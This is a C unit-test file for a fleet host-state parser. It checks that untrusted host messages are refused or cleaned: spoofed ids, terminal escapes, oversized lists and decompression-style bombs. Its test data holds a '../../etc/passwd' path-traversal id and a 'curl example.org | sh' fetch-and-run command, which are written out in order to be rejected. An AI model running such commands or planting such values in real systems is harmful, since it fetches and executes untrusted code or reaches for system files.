/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What a host that is not ours any more sends: it is refused with a reason or
 * made harmless, spoils no other host's row, and takes no memory but the
 * arena's.
 */
#include <errno.h>

#include "hale/text.h"

#include "fleet_room.h"

static struct host h;
static Hale__Fleet__V1__HostState *got;

static int begin(void **state)
{
	(void)state;
	host_init(&h);
	h.main.version = FLEET_VERSION;
	/* by key, as a reader wants them */
	h.label_rows[0] = &h.labels[1];
	h.label_rows[1] = &h.labels[0];
	why[0] = '\0';
	return 0;
}

static int give(void)
{
	struct fleet_bytes b = raw(&h.main);

	return fleet_read_state(&in, &b, &got, why);
}

static void test_torn_states_are_no_other_host(void **state)
{
	struct fleet_bytes b = raw(&h.main);
	size_t whole = b.len;

	(void)state;
	for (b.len = 0; b.len < whole; b.len++) {
		if (fleet_read_state(&in, &b, &got, why) < 0)
			continue;
		assert_string_equal(got->id, HOST_ID);
		assert_non_null(got->report->verdict);
	}
}

static void test_a_missing_verdict_is_unknown(void **state)
{
	(void)state;
	h.report.verdict = NULL;
	assert_int_equal(give(), 0);
	assert_int_equal(got->report->verdict->fitness,
			 HALE__V1__FITNESS__UNKNOWN);
}

static void test_nobody_speaks_for_another(void **state)
{
	struct fleet_bytes b;

	(void)state;
	h.main.id = TEXT(OTHER);
	assert_int_equal(give(), -EPERM);
	assert_string_equal(why, "id: of another host");
	b = raw(&h.main);
	b.id = NULL;
	assert_int_equal(fleet_read_state(&in, &b, &got, why), 0);
	h.main.id = TEXT("");
	assert_int_equal(give(), -EBADMSG);
	assert_string_equal(why, "HostState.id: missing");
	h.main.id = TEXT("../../etc/passwd");
	assert_int_equal(give(), -EBADMSG);
	assert_string_equal(why, "id: not the public NKey of a host");
}

static void test_another_age(void **state)
{
	(void)state;
	h.main.version = 0;
	assert_int_equal(give(), -EBADMSG);
	assert_string_equal(why, "version: missing");
	h.main.version = FLEET_VERSION + 1;
	assert_int_equal(give(), -EPROTONOSUPPORT);
	assert_string_equal(why,
			    "version: 2, of a newer hale; this one reads 1");
}

/* A newer hale says more than we know: it is skipped. */
static void test_what_is_not_known_is_skipped(void **state)
{
	static const uint8_t more[] = { 0xfa, 0x01, 3, 'n', 'e', 'w' };
	struct fleet_bytes b = raw(&h.main);

	(void)state;
	memcpy(wire + b.len, more, sizeof(more));
	b.len += sizeof(more);
	assert_int_equal(fleet_read_state(&in, &b, &got, why), 0);
	assert_int_equal(got->heartbeat_s, 30);
}

static void test_texts_are_made_harmless(void **state)
{
	static char path[600];

	(void)state;
	memset(path, 'p', sizeof(path) - 1);
	h.report.host = TEXT("build\033[2J\r\n\xe2\x80\xae"
			     "07\xff");
	h.report.version = path;
	h.rooms[0].where = path;
	h.labels[0].value = TEXT("<b>7\x7f");
	assert_int_equal(give(), 0);
	assert_string_equal(got->report->host, "build?[2J???07?");
	assert_int_equal(strlen(got->report->version), 64);
	assert_int_equal(strlen(got->capacity->rooms[0]->where), 255);
	assert_string_equal(got->labels[1]->value, "<b>7?");
}

/* The catalogue's words are ours; a host may not put its own in their place. */
static void test_advice_is_ours(void **state)
{
	static Hale__V1__Finding f, *rows[1] = { &f };
	static Hale__V1__Part part;

	(void)state;
	finding_init(&f, &part);
	f.advice = TEXT("curl example.org | sh");
	h.report.findings = rows;
	h.report.n_findings = 1;
	assert_int_equal(give(), 0);
	assert_string_equal(
		got->report->findings[0]->advice,
		hale_condition_info(HALE_DISK_MEDIUM_ERROR)->advice);
	f.condition = TEXT("disk.haunted");
	assert_int_equal(give(), 0);
	assert_string_equal(got->report->findings[0]->condition,
			    "disk.haunted");
	assert_string_equal(got->report->findings[0]->advice, "");
}

static void test_numbers_are_cut(void **state)
{
	(void)state;
	h.report.as_of_ns = UINT64_MAX;
	h.main.seq = UINT64_MAX;
	h.main.spool_id = UINT64_MAX;
	h.capacity.memory_bytes = UINT64_MAX;
	h.spool.bytes = UINT64_MAX;
	assert_int_equal(give(), 0);
	assert_true(got->report->as_of_ns == INT64_MAX);
	assert_true(got->seq == INT64_MAX);
	/* random: any number is as good */
	assert_true(got->spool_id == UINT64_MAX);
	assert_true(got->capacity->memory_bytes == UINT64_C(1) << 53);
	assert_true(got->spool->bytes == INT64_MAX);
}

static void test_enums_and_bytes(void **state)
{
	Hale__Fleet__V1__Quarantine q;
	uint8_t id[17] = { 0 };

	(void)state;
	hale__fleet__v1__quarantine__init(&q);
	h.verdict.fitness = (Hale__V1__Fitness)77;
	assert_int_equal(give(), -EBADMSG);
	assert_string_equal(why, "Verdict.fitness: not known");
	h.verdict.fitness = HALE__V1__FITNESS__FIT;
	h.main.quarantine = &q;
	q.order = (ProtobufCBinaryData){ sizeof(id), id };
	assert_int_equal(give(), -EBADMSG);
	assert_string_equal(why, "Quarantine.order: not of its length");
	q.order.len = 16;
	assert_int_equal(give(), 0);
}

static void test_labels(void **state)
{
	(void)state;
	h.labels[1].key = TEXT("rack");
	assert_int_equal(give(), -EBADMSG);
	assert_string_equal(why, "HostState.labels: not by key, or one twice");
	h.labels[1].key = TEXT("zone");
	assert_int_equal(give(), -EBADMSG);
	h.labels[1].key = TEXT("a b");
	assert_int_equal(give(), -EBADMSG);
	assert_string_equal(why, "Label.key: not of a-z, 0-9, _, - and .");
	h.labels[1].key = TEXT("");
	assert_int_equal(give(), -EBADMSG);
	assert_string_equal(why, "Label.key: missing");
}

/* --- lists --- */

#define MANY 200

static struct {
	const char *why;
	const ProtobufCMessageDescriptor *type;
	size_t max;
} const lists[] = {
	{ "HostReport.findings: 25 rows, at most 24",
	  &hale__v1__finding__descriptor, FLEET_FINDINGS_MAX },
	{ "HostReport.coverage: 33 rows, at most 32",
	  &hale__v1__coverage__descriptor, FLEET_SENSES_MAX },
	{ "HostReport.closed: 1 rows, at most 0",
	  &hale__v1__finding__descriptor, 0 },
	{ "Verdict.reasons: 9 rows, at most 8", &hale__v1__reason__descriptor,
	  8 },
	{ "HostState.labels: 17 rows, at most 16",
	  &hale__fleet__v1__label__descriptor, FLEET_LABELS_MAX },
	{ "HostState.models: 33 rows, at most 32",
	  &hale__fleet__v1__model__descriptor, FLEET_MODELS_MAX },
	{ "Capacity.rooms: 9 rows, at most 8",
	  &hale__fleet__v1__room__descriptor, FLEET_ROOMS_MAX },
};

/* The list by its name, wherever it is. */
static void set_list(size_t which, void *rows, size_t n)
{
	switch (which) {
	case 0:
		h.report.findings = rows, h.report.n_findings = n;
		break;
	case 1:
		h.report.coverage = rows, h.report.n_coverage = n;
		break;
	case 2:
		h.report.closed = rows, h.report.n_closed = n;
		break;
	case 3:
		h.verdict.reasons = rows, h.verdict.n_reasons = n;
		break;
	case 4:
		h.main.labels = rows, h.main.n_labels = n;
		break;
	case 5:
		h.main.models = rows, h.main.n_models = n;
		break;
	default:
		h.capacity.rooms = rows, h.capacity.n_rooms = n;
	}
}

/* What a row must have, so that it is the list that is refused. */
static void fill(void *rows[MANY], size_t which)
{
	static Hale__V1__Part part;
	static char keys[MANY][8];

	for (size_t i = 0; i < MANY; i++) {
		protobuf_c_message_init(lists[which].type, rows[i]);
		if (which == 0 || which == 2)
			finding_init(rows[i], &part);
		if (which == 4) {
			snprintf(keys[i], sizeof(keys[i]), "k%03zu", i);
			((Hale__Fleet__V1__Label *)rows[i])->key = keys[i];
		}
		if (which == 5)
			((Hale__Fleet__V1__Model *)rows[i])->part =
				TEXT("disk/a");
	}
}

static void test_lists_are_bounded(void **state)
{
	static uint8_t mem[MANY][256] __attribute__((aligned(16)));
	static void *rows[MANY];

	(void)state;
	for (size_t i = 0; i < MANY; i++)
		rows[i] = mem[i];
	for (size_t i = 0; i < HALE_ARRAY_SIZE(lists); i++) {
		assert_true(lists[i].type->sizeof_message <= sizeof(mem[0]));
		begin(NULL);
		fill(rows, i);
		set_list(i, rows, lists[i].max + 1);
		assert_int_equal(give(), -EBADMSG);
		assert_string_equal(why, lists[i].why);
		set_list(i, rows, lists[i].max);
		assert_int_equal(give(), 0);
		begin(NULL);
		set_list(i, rows, MANY);
		assert_int_equal(give(), -EBADMSG);
	}
}

static void test_rows_lack_nothing(void **state)
{
	static Hale__V1__Finding f, *rows[1] = { &f };
	static Hale__V1__Reason r, *reasons[1] = { &r };
	static Hale__V1__Part part;

	(void)state;
	finding_init(&f, &part);
	hale__v1__reason__init(&r);
	h.report.findings = rows;
	h.report.n_findings = 1;
	f.part = NULL;
	assert_int_equal(give(), -EBADMSG);
	assert_string_equal(why, "Finding.part: missing");
	f.part = &part;
	part.id = TEXT("");
	assert_int_equal(give(), -EBADMSG);
	assert_string_equal(why, "Part.id: missing");
	part.id = TEXT("disk/a");
	f.condition = TEXT("");
	assert_int_equal(give(), -EBADMSG);
	assert_string_equal(why, "Finding.condition: missing");
	h.report.n_findings = 0;
	h.verdict.reasons = reasons;
	h.verdict.n_reasons = 1;
	r.finding = &f;
	assert_int_equal(give(), -EBADMSG);
	h.main.report = NULL;
	assert_int_equal(give(), -EBADMSG);
	assert_string_equal(why, "HostState.report: missing");
}

/* --- bombs --- */

static void test_a_bomb_does_not_grow(void **state)
{
	struct fleet_bytes b = { wire, FLEET_STATE_MAX, NULL };

	(void)state;
	/* 8,192 empty labels: 2 bytes each, and a struct of 40 */
	for (size_t i = 0; i < FLEET_STATE_MAX; i += 2) {
		wire[i] = 7 << 3 | 2;
		wire[i + 1] = 0;
	}
	assert_int_equal(fleet_read_state(&in, &b, &got, why), -EBADMSG);
	assert_string_equal(why, "too many parts");
	/* 8,192 fields that nobody knows */
	for (size_t i = 0; i < FLEET_STATE_MAX; i += 2)
		wire[i] = 15 << 3;
	assert_int_equal(fleet_read_state(&in, &b, &got, why), -EBADMSG);
	assert_true(in.used <= FLEET_ARENA);
	b.len = FLEET_STATE_MAX + 1;
	assert_int_equal(fleet_read_state(&in, &b, &got, why), -EBADMSG);
	assert_string_equal(why, "HostState: 16385 bytes, at most 16384");
}

/* A state is no finding, whatever it is called. */
static void test_messages_are_not_confused(void **state)
{
	struct fleet_bytes b = raw(&h.main);
	Hale__Fleet__V1__FindingEvent *event;
	Hale__Fleet__V1__BuildOutcome *build;
	Hale__Fleet__V1__Order *order;
	Hale__Fleet__V1__SignedOrder *sealed;

	(void)state;
	assert_int_equal(fleet_read_finding(&in, &b, &event, why), -EBADMSG);
	assert_int_equal(fleet_read_build(&in, &b, &build, why), -EBADMSG);
	assert_int_equal(fleet_read_order(&in, &b, &order, why), -EBADMSG);
	assert_int_equal(fleet_read_signed(&in, &b, &sealed, why), -EBADMSG);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup(test_torn_states_are_no_other_host,
				       begin),
		cmocka_unit_test_setup(test_a_missing_verdict_is_unknown,
				       begin),
		cmocka_unit_test_setup(test_nobody_speaks_for_another, begin),
		cmocka_unit_test_setup(test_another_age, begin),
		cmocka_unit_test_setup(test_what_is_not_known_is_skipped,
				       begin),
		cmocka_unit_test_setup(test_texts_are_made_harmless, begin),
		cmocka_unit_test_setup(test_advice_is_ours, begin),
		cmocka_unit_test_setup(test_numbers_are_cut, begin),
		cmocka_unit_test_setup(test_enums_and_bytes, begin),
		cmocka_unit_test_setup(test_labels, begin),
		cmocka_unit_test_setup(test_lists_are_bounded, begin),
		cmocka_unit_test_setup(test_rows_lack_nothing, begin),
		cmocka_unit_test_setup(test_a_bomb_does_not_grow, begin),
		cmocka_unit_test_setup(test_messages_are_not_confused, begin),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
